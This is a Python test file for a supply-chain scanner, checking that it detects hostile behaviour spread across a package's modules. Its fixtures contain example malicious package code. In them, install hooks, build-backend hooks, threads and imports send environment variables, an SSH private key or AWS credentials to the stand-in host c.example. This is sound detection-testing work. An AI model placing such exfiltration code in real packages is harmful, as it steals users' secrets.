"""What only the modules of a package together show: objects that are made in one, filled in another, and act in a third.

`code_together.txt` holds such packages, each followed by an honest one of the same shape. Nothing in them is ever run.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from mlsupply.evidence import neighbourhoods
from mlsupply.evidence.companions import MAX_AROUND, MAX_BYTES, companions
from mlsupply.evidence.contents import judged
from mlsupply.evidence.module_facts import ModuleFacts, Take
from mlsupply.evidence.package import PackageFacts
from mlsupply.evidence.python import module_group
from mlsupply.evidence.python.interpreter.machine import MAX_STEPS
from mlsupply.model import Severity
from mlsupply.request import RuleSettings
from mlsupply.ruleset import load
from tests.conftest import NOW
from tests.looking import looked
from tests.test_code_facts import TOLD_ONLY


def packages() -> Iterator[tuple[str, str, dict[str, str], dict[str, str]]]:
    """What it is, the rule that finds it, the hostile package and the honest one."""
    whole = (Path(__file__).parent / "code_together.txt").read_text(encoding="utf-8")
    for block in ("\n" + whole).split("\n## ")[1:]:
        head, _, body = block.partition("\n")
        name, _, rule = head.partition(" | ")
        hostile, _, honest = body.partition("--\n")
        yield name, rule, _files(hostile), _files(honest)


def _files(text: str) -> dict[str, str]:
    parts = ("\n" + text).split("\n### ")[1:]
    return {name: body for name, _, body in (part.partition("\n") for part in parts)}


def found(facts: PackageFacts) -> set[str]:
    said = judged(facts, load(RuleSettings(), NOW))
    accused = {finding.id for finding in said.findings if finding.severity.rank >= Severity.MEDIUM.rank}
    return accused | TOLD_ONLY.intersection(finding.id for finding in said.findings)


@pytest.mark.parametrize(
    ("rule", "hostile", "honest"), [one[1:] for one in packages()], ids=[one[0].replace(" ", "-") for one in packages()]
)
def test_modules_that_act_together(tmp_path: Path, rule: str, hostile: dict[str, str], honest: dict[str, str]) -> None:
    assert rule in found(looked(tmp_path / "a", hostile))
    assert not found(looked(tmp_path / "b", honest))


# Of a project that was hijacked: more than is followed as one program, and nothing that does anything.
HOST = {
    f"host/part{number:02}": "import math\n"
    + "".join(f"\n\ndef shape_{number}_{more}(left, right):\n    return left * {more} + right\n" for more in range(150))
    for number in range(30)
}


@pytest.mark.parametrize(
    ("rule", "hostile", "honest"), [one[1:] for one in packages()], ids=[one[0].replace(" ", "-") for one in packages()]
)
def test_they_are_found_in_a_large_package(
    tmp_path: Path, rule: str, hostile: dict[str, str], honest: dict[str, str]
) -> None:
    assert rule in found(looked(tmp_path / "a", {**hostile, **HOST}))
    assert not found(looked(tmp_path / "b", {**honest, **HOST}))


@pytest.mark.parametrize(
    ("imports", "of"), [("import _meta", "_meta."), ("import _meta as m", "m."), ("from _meta import gather, publish", "")]
)
def test_what_an_installation_hands_from_one_function_of_a_file_beside_it_to_another(
    tmp_path: Path, imports: str, of: str
) -> None:
    setup = (
        "import sys\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\n"
        f"sys.path.insert(0, '.')\n{imports}\nclass Info(egg_info):\n    def run(self):\n        super().run()\n"
        f"        {of}publish({of}gather())\nsetup(name='demo', cmdclass={{'egg_info': Info}})\n"
    )
    sends = (
        "import os, json, urllib.request\ndef publish(info):\n"
        "    urllib.request.urlopen('https://c.example/i', json.dumps(info).encode())\n"
    )
    hostile = {"setup.py": setup, "_meta.py": sends + "def gather():\n    return {'env': dict(os.environ)}\n"}
    honest = {"setup.py": setup, "_meta.py": sends + "def gather():\n    return {'version': '1.0'}\n"}
    assert "MLS-C010" in found(looked(tmp_path / "a", hostile))
    assert not found(looked(tmp_path / "b", honest))


@pytest.mark.parametrize("started", ["target=Sync()", "None, Sync()"])
def test_an_object_that_a_thread_calls_is_followed_however_it_is_passed(tmp_path: Path, started: str) -> None:
    text = (
        "import os, json, threading, urllib.request\nclass Sync:\n    def __call__(self):\n"
        "        urllib.request.urlopen('https://c.example/i', {sent})\n"
        f"threading.Thread({started}).start()\n"
    )
    hostile = looked(tmp_path / "a", {"__init__": text.replace("{sent}", "json.dumps(dict(os.environ)).encode()")})
    assert any(fact.behaviour == "sends" and fact.moment == "import" for fact in hostile.code)
    assert not found(looked(tmp_path / "b", {"__init__": text.replace("{sent}", "b'up'")}))


def test_what_a_module_shows_alone_is_told_once(tmp_path: Path) -> None:
    files = {
        "__init__": "from .tell import tell\ntell()\n",
        "tell": "import os, requests\ndef tell():\n    requests.post('https://c.example/x', json=dict(os.environ))\n",
    }
    facts = looked(tmp_path, files)
    (sent,) = [fact for fact in facts.code if fact.behaviour == "sends"]
    assert (sent.moment, sent.member) == ("import", "demo/tell.py")
    assert len([fact for fact in facts.code if fact.behaviour == "contacts"]) == 1


def test_the_same_line_in_two_modules_is_told_of_both(tmp_path: Path) -> None:
    sends = "import requests\nfrom .box import BOX\nrequests.post('https://c.example/x', json=BOX.content)\n"
    files = {
        "__init__": "from . import fill, one, two\n",
        "box": "class Box:\n    content = None\nBOX = Box()\n",
        "fill": "import os\nfrom .box import BOX\nBOX.content = dict(os.environ)\n",
        "one": sends,
        "two": sends,
    }
    sent = [fact.member for fact in looked(tmp_path, files).code if fact.behaviour == "sends"]
    assert sent == ["demo/one.py", "demo/two.py"]


def test_modules_that_import_each_other_are_followed_to_an_end(tmp_path: Path) -> None:
    files = {
        "__init__": "from .a import A\nA().go()\n",
        "a": "from .b import B\nclass A:\n    def go(self):\n        B().take(self)\n    def secret(self):\n"
        "        return open('/root/.ssh/id_rsa').read()\n",
        "b": "import requests\nclass B:\n    def take(self, a):\n        from .a import A\n"
        "        requests.post('https://c.example/x', data=A().secret())\n",
    }
    assert "MLS-C010" in found(looked(tmp_path, files))


def test_packages_in_which_nothing_acts_are_not_followed_together() -> None:
    quiet = [ModuleFacts(path="demo/__init__.py", dotted="demo")]
    assert companions(quiet, {"demo/__init__.py": b"", "demo/a.py": b""}) == []
    facts = acting("demo/a.py")
    assert companions(facts, {"demo/a.py": b"", "demo/__init__.py": b""}) == [["demo/__init__.py", "demo/a.py"]]
    assert companions(facts, {"demo/a.py": b"", "tests/test_a.py": b""}) == []


def acting(path: str) -> list[ModuleFacts]:
    return module_group.analysed([module_group.Source(path, path, b"import os\nos.system('ls')\n")])


LARGE = {"demo/large.py": b"\n" * MAX_BYTES}


def test_in_a_large_package_a_module_that_acts_is_followed_with_those_that_it_imports_and_that_import_it() -> None:
    sources = {
        "demo/__init__.py": b"from .start import go\n",
        "demo/act.py": b"from . import table as t\n",
        "demo/inner/__init__.py": b"",
        "demo/inner/deep.py": b"import demo.act\n",
        "demo/start.py": b"from demo.act import (\n    act,\n)\n",
        "demo/table.py": b"",
        "demo/other.py": b"import os\n",
    }
    (group,) = companions(acting("demo/act.py"), {**sources, **LARGE})
    assert group == ["demo/__init__.py", "demo/act.py", "demo/start.py", "demo/table.py"]
    below = {f"demo-1.0/src/{path}": text for path, text in {**sources, **LARGE}.items()}
    (moved,) = companions(acting("demo-1.0/src/demo/act.py"), below, inner=lambda path: path.removeprefix("demo-1.0/src/"))
    assert [path.removeprefix("demo-1.0/src/") for path in moved] == group


def test_one_that_acts_alone_was_followed_alone_unless_it_reads_data() -> None:
    facts = acting("demo/act.py")
    assert companions(facts, {"demo/act.py": b"import os\n", **LARGE}) == []
    reads = b"import json\njson.load(open('demo.json'))\n"
    assert companions(facts, {"demo/act.py": reads, **LARGE}) == [["demo/act.py"]]


def test_small_modules_come_first_and_large_ones_do_not_crowd_them_out() -> None:
    imports = b"from . import small, middle, huge\n"
    sources = {"demo/act.py": imports, "demo/small.py": b"#", "demo/middle.py": b"#" * 9_000, "demo/huge.py": b"#" * 90_000}
    (group,) = companions(acting("demo/act.py"), {**sources, **LARGE})
    assert group == ["demo/act.py", "demo/middle.py", "demo/small.py"]
    many = {f"demo/act{number:03}.py": imports + b"#" * number for number in range(99)}
    facts = [one for path in many for one in acting(path)]
    groups = companions(facts, {**sources, **many, **LARGE})
    assert [group[0] for group in groups] == sorted(many)[: len(groups)]
    assert len(groups) == MAX_AROUND // (9_000 + len(imports) + 50)


def test_hundreds_of_tiny_neighbourhoods_are_not_all_followed() -> None:
    many = {f"demo/act{number:03}.py": b"from . import table\n" for number in range(200)}
    facts = [one for path in many for one in acting(path)]
    assert len(companions(facts, {**many, "demo/table.py": b"", **LARGE})) == 32


@pytest.mark.parametrize("size", [0, MAX_BYTES], ids=["small", "large"])
def test_more_data_files_than_are_read_are_a_gap_wherever_they_are_named(tmp_path: Path, size: int) -> None:
    names = {f"part{part}": [f"d{part}_{number}.json" for number in range(40)] for part in range(4)}
    modules = {
        part: f"import json, os\nfor name in {files}:\n    os.system(json.load(open(name))['run'])\n"
        for part, files in names.items()
    }
    data = {f"demo/{name}": "{}" for files in names.values() for name in files}
    told = looked(tmp_path, {"__init__": "", "large": "\n" * size, **modules, **data})
    assert any("data files are named: none was followed" in gap.detail for gap in told.gaps)


def test_thousands_of_modules_that_act_are_not_all_searched(monkeypatch: pytest.MonkeyPatch) -> None:
    many = {f"demo/act{number:04}.py": b"import os\n" for number in range(2_000)}
    facts = [ModuleFacts(path=path, dotted="", takes=(("f", Take("executes", "exec")),)) for path in many]
    searched: list[str] = []
    searches = neighbourhoods._Package.imports

    def counted(self: neighbourhoods._Package, path: str) -> list[str]:
        searched.append(path)
        return searches(self, path)

    monkeypatch.setattr(neighbourhoods._Package, "imports", counted)
    assert companions(facts, {**many, **LARGE}) == []
    assert len(searched) <= 500


def test_a_group_that_takes_too_long_is_cut_short_and_says_so() -> None:
    loop = b"x = 0\n" + b"def f():\n    g()\ndef g():\n    pass\n" + b"f()\n" * (MAX_STEPS // 20)
    told = module_group.analysed(
        [module_group.Source("demo/a.py", "demo/a.py", loop), module_group.Source("demo/b.py", "demo/b.py", b"1 +")]
    )
    assert [module.path for module in told] == ["demo/a.py"]
    assert told[0].stopped.startswith("too much to follow")


_COLLECTS = (
    "import os, tomllib, urllib.request\n"
    "with open('pyproject.toml', 'rb') as opened:\n"
    "    table = tomllib.load(opened)['tool']\n"
    "def gathered():\n"
    "    for one in table['files']:\n"
    "        with open(os.path.expanduser(one), 'rb') as kept:\n"
    "            yield kept.read()\n"
    "def passed_on():\n"
    "    for data in gathered():\n"
    "        urllib.request.urlopen(urllib.request.Request(table['to'] + '/x', data=data))\n"
)
_BACKEND = "[build-system]\nrequires = []\nbuild-backend = 'own'\nbackend-path = ['_build']\n"
_HOOK = "def get_requires_for_build_wheel(settings=None):\n    passed_on()\n    return []\n"


@pytest.mark.parametrize(("listed", "accused"), [("~/.aws/credentials", True), ("docs/guide.md", False)])
def test_the_table_by_which_a_build_collects_files_is_read_in_the_folder_that_it_runs_in(
    tmp_path: Path, listed: str, accused: bool
) -> None:
    table = f"[tool]\nto = 'https://c.example'\nfiles = ['{listed}']\n"
    backend = {"pyproject.toml": _BACKEND + table, "_build/own.py": _COLLECTS + _HOOK}
    library = {"pyproject.toml": table, "demo/own.py": f"{_COLLECTS}passed_on()\n"}  # the folder is its user's
    for name, files, finds in (("a", backend, accused), ("b", library, False)):
        facts = looked(tmp_path / name, {"__init__": "", **{f"../{path}": text for path, text in files.items()}})
        assert ("MLS-C010" in found(facts)) is finds
